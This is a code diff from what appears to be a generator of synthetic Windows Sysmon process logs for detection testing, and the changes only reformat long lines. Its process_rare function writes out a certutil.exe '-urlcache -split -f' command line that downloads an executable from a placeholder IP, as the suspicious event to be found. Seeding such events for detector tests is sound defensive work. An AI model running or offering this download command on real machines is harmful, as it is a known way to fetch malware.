@@ -70,7 +70,9 @@ def _options(image: str, template: int) -> str:
     """Return a command line of a program that is seen again and again: one of some thousand."""
     own = random.Random(f"{image}{template}")  # noqa: S311 - made-up, no secret
     words = own.choices(_WORDS, k=own.randint(1, 9))
-    return f'"{image}" ' + " ".join(f"--{one}={own.randrange(500)}" if own.random() < 0.5 else one for one in words)  # noqa: PLR2004
+    return f'"{image}" ' + " ".join(
+        f"--{one}={own.randrange(500)}" if own.random() < 0.5 else one for one in words
+    )  # noqa: PLR2004
 
 
 def _sysmon(event: int, source: random.Random, fields: Record) -> Record:
@@ -87,7 +89,9 @@ def _sysmon(event: int, source: random.Random, fields: Record) -> Record:
 
 
 def _process(source: random.Random, line: str, image: str) -> Record:
-    parent = source.choice((_EXPLORER, f"{_SYSTEM}services.exe", f"{_SYSTEM}svchost.exe", f"{_SYSTEM}cmd.exe"))
+    parent = source.choice(
+        (_EXPLORER, f"{_SYSTEM}services.exe", f"{_SYSTEM}svchost.exe", f"{_SYSTEM}cmd.exe")
+    )
     own = random.Random(image)  # noqa: S311 - made-up, no secret
     return _sysmon(1, source, {
         "Image": image, "CommandLine": line, "OriginalFileName": image.rpartition("\\")[2],
@@ -117,7 +121,9 @@ def process_new(source: random.Random) -> Record:
 def process_rare(source: random.Random) -> Record:
     """Make the start that is searched for."""
     image = f"{_SYSTEM}certutil.exe"
-    return _process(source, f"certutil.exe -urlcache -split -f http://203.0.113.7/{RARE}.exe {HEX2}.exe", image)
+    return _process(
+        source, f"certutil.exe -urlcache -split -f http://203.0.113.7/{RARE}.exe {HEX2}.exe", image
+    )
 
 
 def connection(source: random.Random) -> Record:
